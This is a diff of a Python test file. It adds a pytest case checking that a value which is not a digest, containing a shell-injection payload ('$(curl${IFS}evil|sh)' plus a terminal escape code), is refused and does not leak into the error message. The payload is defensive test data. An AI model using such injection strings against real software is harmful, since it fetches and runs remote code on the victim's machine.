@@ -431,3 +431,11 @@ async def test_no_key_gets_into_the_log(tmp_path: Path, caplog: pytest.LogCaptur
     said: list[Any] = [record.getMessage() for record in caplog.records]
     assert len(said) >= 2
     assert key[:12] not in str(said)
+
+
+def test_a_text_that_is_no_digest_stands_in_no_command() -> None:
+    need = Need(Key("a", "b"), "uuid", frozenset({"$(curl${IFS}evil|sh)\x1b[2J"}))
+    with pytest.raises(MissingRing) as refused:
+        first_ring("here", [need], NOW)
+    assert "freehold keys accept" not in str(refused.value)
+    assert "\x1b" not in str(refused.value)
